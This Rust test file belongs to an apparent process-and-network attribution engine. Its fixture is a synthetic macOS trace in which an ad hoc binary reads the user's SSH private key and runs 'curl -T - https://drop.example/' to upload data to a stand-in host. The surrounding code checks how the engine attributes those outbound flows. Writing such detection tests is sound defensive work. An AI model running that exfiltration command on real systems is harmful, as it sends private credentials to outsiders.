//! Who sends where, told beside the analysis.

use tollgate_engine::{Engine, Sendings};
use tollgate_model::{Body, Record, Rung, Timestamp};
use tollgate_trace as trace;

use crate::drive::{policy, redaction};

const STORY: &str = "host mac1
process launchd pid=1.1 parent=0.0 user=0 platform com.apple.xpc.launchd /sbin/launchd
process shell pid=400.1 parent=1.1 platform com.apple.zsh /bin/zsh
09:00:01 fork launchd -> 500
09:00:02 exec 500 adhoc com.example.x /private/tmp/u : u
09:00:03 fork 500 -> 501
09:00:04 exec 501 platform com.apple.curl /usr/bin/curl : curl -T - https://drop.example/
09:00:05 read 500 \"/Users/ana/.ssh/id_ed25519\" size=400
09:00:06 connect 500 tcp 10.0.0.5:50000 -> 192.0.2.9:443
09:00:06 flow C1 10.0.0.5:50000 -> 192.0.2.9:443 tcp for 0.5s out=900 in=9 service=ssl
09:00:06 tls C1 sni=one.example established
09:00:07 flow C2 10.0.0.5:50001 -> 192.0.2.10:443 tcp for 0.5s out=70 in=9 service=ssl
09:00:07 tls C2 sni=drop.example established
09:00:08 flow C3 10.0.0.5:50002 -> 192.0.2.11:443 tcp for 0.5s out=5 in=9 service=ssl
09:00:08 tls C3 sni=nobody.example established
09:00:09 flow C4 10.0.0.5:50003 -> 10.0.0.9:443 tcp for 0.5s out=5 in=9 service=ssl
09:00:09 flow C5 10.0.0.5:50004 -> 192.0.2.12:80 tcp for 0.5s out=5 in=9 service=http
09:01:00 exit 501
09:01:00 exit 500
";

/// What comes of it: decisions, the state before the end, and what was told of who sends where.
fn run(records: &[Record], told: bool) -> (Vec<String>, Vec<u8>, Option<Sendings>) {
    let mut engine = Engine::new(policy(), redaction());
    if told {
        engine.tell_sendings(["198.51.100.7".parse().unwrap()].into());
    }
    let (events, rows): (Vec<&Record>, Vec<&Record>) = records.iter().partition(|record| !matches!(record.body, Body::Network(_)));
    rows.into_iter().chain(events).for_each(|record| engine.apply(record));
    engine.advance_all(Timestamp::from_secs(1_000_000));
    let state = engine.snapshot();
    let mut decisions = Vec::new();
    engine.finish(&mut |decision| decisions.push(format!("{decision:?}")));
    (decisions, state, engine.take_sendings())
}

#[test]
fn settled_flows_are_told_and_nothing_else_changes() {
    let records = trace::parse(STORY).unwrap();
    let (silent, telling) = (run(&records, false), run(&records, true));
    assert_eq!((&silent.0, &silent.1, &silent.2), (&telling.0, &telling.1, &None));
    assert!(!silent.0.is_empty());
    let sendings = telling.2.unwrap();
    // Neither the flow within the network nor the one that is not encrypted.
    let rows: Vec<_> = sendings
        .rows
        .iter()
        .map(|(pairing, sent)| {
            let whom: Vec<String> = sent.works_for.iter().map(ToString::to_string).collect();
            let sender = pairing.sender.as_ref().map(ToString::to_string).unwrap_or_default();
            (sender, pairing.destination.raw().to_owned(), sent.bytes_out, whom.join(" "), sent.bypassed)
        })
        .collect();
    let row = |sender: &str, destination: &str, bytes, whom: &str| (sender.to_owned(), destination.to_owned(), bytes, whom.to_owned(), 1);
    assert_eq!(
        rows,
        [
            row("", "nobody.example", 5, ""),
            row("platform/com.apple.curl (platform)", "drop.example", 70, "/private/tmp/u (ad hoc)"),
            row("/private/tmp/u (ad hoc)", "one.example", 900, ""),
        ]
    );
    let rung = |rung: Rung| sendings.rows.values().map(|sent| sent.by_rung[rung as usize]).sum::<u64>();
    assert_eq!((rung(Rung::Exact), rung(Rung::Named), rung(Rung::Host)), (1, 1, 0));
    assert_eq!(sendings.crowded, 0);
}
